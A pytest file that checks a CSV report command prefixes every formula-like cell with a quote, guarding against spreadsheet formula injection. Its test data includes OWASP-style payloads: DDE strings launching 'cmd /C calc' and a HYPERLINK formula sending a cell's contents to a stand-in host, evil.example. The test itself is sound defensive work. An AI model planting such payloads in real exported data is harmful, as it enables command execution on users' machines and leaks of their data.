"""`report --format csv` writes no cell a spreadsheet would run (issue 21, item 6).

A home whose ledger holds firm names and an Uku field name built to be formulas (the
OWASP CSV Injection examples): every text cell and header starting with ``=``, ``+``,
``-``, ``@``, TAB or CR must come out with a leading ``'``; numbers, negative changes
included, must stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from tests.cli.sandbox_home import Invoke
from trigon_sync.cli.csv_cells import FORMULA_STARTS
from trigon_sync.store import ledger

HOSTILE_NAMES = (
    '=HYPERLINK("http://x"&A1,"a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab OÜ",
    "\r=1+1",
)
HOSTILE_FIELD = '=HYPERLINK("http://evil.example/?"&A2,"Müügiarved")'
MAPPING = (("sales_invoices_created", HOSTILE_FIELD), ("payments_created", "-Maksed"))


def _hostile_ledger() -> None:
    """Two months for each hostile client; the second month drops, so every change is
    negative (and the drop to zero of the first client raises a flag)."""
    writer = ledger.LedgerWriter()
    at = dt.datetime(2024, 12, 31, 0, 30, tzinfo=dt.UTC)
    for k, name in enumerate(HOSTILE_NAMES):
        for month, n in ((11, 40 + k), (12, 0 if k == 0 else 3)):
            writer.write(
                period=f"2024-{month:02d}",
                firm=f"f{k}",
                registration_code="+3725550000" if k == 1 else f"1000000{k}",
                name=name,
                uku_client=k + 1,
                task=100 * month + k,
                action="create",
                mapping=MAPPING,
                counts={"sales_invoices_created": n, "payments_created": n},
                at=at,
            )


def _cells(raw: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=separator))


def _is_number(cell: str) -> bool:
    try:
        int(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "extra", [(), ("--separator", ","), ("--no-totals",)], ids=["semicolon", "comma", "no-totals"]
)
def test_no_csv_cell_starts_a_formula_except_numbers(cli: Invoke, extra: tuple[str, ...]) -> None:
    _hostile_ledger()
    separator = "," if "," in extra else ";"
    result = cli("report", "--from", "2024-11", "--to", "2024-12", "--format", "csv", *extra)
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout_bytes, separator)
    header, body = rows[0], rows[1:]

    for cell in (c for row in rows for c in row):
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), repr(cell)
    # the names are all there, readable, behind the one quote OWASP prescribes
    assert f"'{HOSTILE_FIELD}" in header and "'-Maksed" in header
    assert {row[1] for row in body} >= {f"'{name}" for name in HOSTILE_NAMES}
    assert "'+3725550000" in {row[2] for row in body}
    # numbers stay numbers: a drop is written as a plain negative number
    if "--no-totals" not in extra:
        change = [r for r in body if r[0] == "2024-12" and r[1] == "Change vs previous month"]
        assert change and all(_is_number(c) and int(c) < 0 for c in change[0][3:5])


def test_a_file_written_with_output_is_neutralised_too(cli: Invoke, tmp_path) -> None:
    _hostile_ledger()
    target = tmp_path / "counts.csv"
    result = cli("report", "--period", "2024-12", "-f", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    cells = [c for row in _cells(target.read_bytes(), ";") for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
